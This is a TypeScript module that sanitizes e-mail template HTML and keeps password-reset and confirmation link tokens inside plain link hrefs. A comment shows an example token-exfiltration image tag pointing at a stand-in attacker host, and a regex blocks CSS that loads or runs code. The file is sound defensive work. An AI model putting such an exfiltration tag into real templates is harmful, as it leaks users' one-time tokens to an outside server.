import sanitizeHtml from 'sanitize-html';
import { detectTemplateVariables, type ApplicationSystemTemplateName } from './mail.templates.js';
import { htmlToText } from './mail.text.js';

/**
 * Link placeholders whose values carry one-time tokens (password reset, e-mail confirmation,
 * leaving an organization). Whoever edits an application's template must not be able to route
 * such a link to a server of their own, e.g. `<img src="https://evil.example/?{{resetLink}}">`.
 */
export const SECRET_LINK_VARIABLES = ['resetLink', 'confirmLink', 'leaveLink'] as const;

/** The placeholders a system template cannot work without: the link its mail exists for. */
export const REQUIRED_VARIABLES: Partial<Record<ApplicationSystemTemplateName, string[]>> = {
  email_confirmation: ['confirmLink'],
  password_reset: ['resetLink'],
};

/** CSS properties e-mail clients understand, allowed in `style` attributes. */
const CSS_PROPERTIES = [
  'background',
  'background-color',
  'border',
  'border-bottom',
  'border-collapse',
  'border-color',
  'border-left',
  'border-radius',
  'border-right',
  'border-spacing',
  'border-style',
  'border-top',
  'border-width',
  'color',
  'display',
  'font',
  'font-family',
  'font-size',
  'font-style',
  'font-weight',
  'height',
  'letter-spacing',
  'line-height',
  'margin',
  'margin-bottom',
  'margin-left',
  'margin-right',
  'margin-top',
  'max-width',
  'min-width',
  'opacity',
  'padding',
  'padding-bottom',
  'padding-left',
  'padding-right',
  'padding-top',
  'text-align',
  'text-decoration',
  'text-transform',
  'vertical-align',
  'white-space',
  'width',
  'word-break',
];
/** A CSS value without anything that loads or runs something (`url(…)`, `expression(…)`, `@import`). */
const SAFE_CSS_VALUE = /^(?![\s\S]*(?:url\s*\(|expression\s*\(|javascript:|@import|\\))[^<>]*$/i;

const LAYOUT_ATTRIBUTES = ['style', 'align', 'valign', 'width', 'height', 'bgcolor', 'dir', 'lang', 'title'];

const BASE_OPTIONS: sanitizeHtml.IOptions = {
  allowedTags: [...sanitizeHtml.defaults.allowedTags, 'img', 'center', 'font'],
  allowedAttributes: {
    '*': LAYOUT_ATTRIBUTES,
    a: ['href', 'name', 'target', 'rel'],
    img: ['src', 'alt', 'border'],
    table: ['border', 'cellpadding', 'cellspacing', 'role'],
    td: ['colspan', 'rowspan'],
    th: ['colspan', 'rowspan', 'scope'],
    font: ['color', 'face', 'size'],
  },
  allowedSchemes: ['http', 'https', 'mailto'],
  allowedSchemesByTag: { img: ['http', 'https'] },
  allowProtocolRelative: false,
  allowedStyles: { '*': Object.fromEntries(CSS_PROPERTIES.map((property) => [property, [SAFE_CSS_VALUE]])) },
  // Everything else is dropped; the content of script, style and the like goes with it.
  disallowedTagsMode: 'discard',
};

const SECRET_PLACEHOLDER = new RegExp(`\\{\\{\\s*(${SECRET_LINK_VARIABLES.join('|')})\\s*\\}\\}`, 'g');

export interface TemplateProblem {
  path: string;
  message: string;
}

/**
 * Sanitizes user-written template HTML with sanitize-html: no scripts, event handlers, forms,
 * frames or `javascript:`/`data:` URLs; inline styles limited to layout properties. `{{name}}`
 * placeholders survive (a placeholder as a whole `href` is a relative URL to the sanitizer).
 * Also reports secret link placeholders used inside any attribute other than a link's `href`.
 */
export function sanitizeTemplateHtml(html: string): { html: string; problems: TemplateProblem[] } {
  const problems: TemplateProblem[] = [];
  const sanitized = sanitizeHtml(html, {
    ...BASE_OPTIONS,
    transformTags: {
      '*': (tagName, attribs) => {
        for (const [attribute, value] of Object.entries(attribs)) {
          for (const match of value.matchAll(SECRET_PLACEHOLDER)) {
            const wholeHref = tagName === 'a' && attribute === 'href' && value.trim() === match[0];
            if (!wholeHref)
              problems.push({
                path: 'body.html_content',
                message: `{{${match[1]}}} may only be the whole href of a link (<a href="{{${match[1]}}}">), not part of <${tagName} ${attribute}="…">.`,
              });
          }
        }
        return { tagName, attribs };
      },
    },
  });
  return { html: sanitized, problems };
}

/** Secret placeholders in text must stand on their own, so no text before them turns them into another URL. */
function textProblems(text: string, path: string): TemplateProblem[] {
  const problems: TemplateProblem[] = [];
  for (const match of text.matchAll(SECRET_PLACEHOLDER)) {
    const before = match.index === 0 ? '' : text[match.index - 1]!;
    if (before !== '' && !/\s/.test(before))
      problems.push({
        path,
        message: `{{${match[1]}}} must stand on its own in the text (after a space or a line break), not after "${text.slice(Math.max(0, match.index - 20), match.index)}".`,
      });
  }
  return problems;
}

export interface CleanTemplate {
  subject: string;
  html_content: string;
  text_content: string | null;
  variables: string[];
}

/**
 * What a template is stored as: HTML sanitized, variables detected from subject, HTML and text,
 * plus every problem with secret link placeholders (none means it may be saved). `systemName`
 * adds the check that a system template keeps the link it exists for.
 */
export function prepareTemplate(
  input: { subject: string; html_content: string; text_content: string | null },
  systemName?: ApplicationSystemTemplateName,
): { template: CleanTemplate; problems: TemplateProblem[]; missing: string[] } {
  const { html, problems } = sanitizeTemplateHtml(input.html_content);
  const text = input.text_content?.trim() ? input.text_content : null;
  for (const match of input.subject.matchAll(SECRET_PLACEHOLDER))
    problems.push({ path: 'body.subject', message: `{{${match[1]}}} may not be used in the subject.` });
  problems.push(...textProblems(htmlToText(html), 'body.html_content'));
  if (text !== null) problems.push(...textProblems(text, 'body.text_content'));

  const variables = detectTemplateVariables(`${input.subject} ${html} ${text ?? ''}`);
  const required = systemName ? (REQUIRED_VARIABLES[systemName] ?? []) : [];
  const inHtml = new Set(detectTemplateVariables(html));
  const inText = new Set(detectTemplateVariables(text ?? ''));
  const missing = required.filter((name) => !inHtml.has(name) || (text !== null && !inText.has(name)));
  return {
    template: { subject: input.subject, html_content: html, text_content: text, variables },
    problems,
    missing,
  };
}
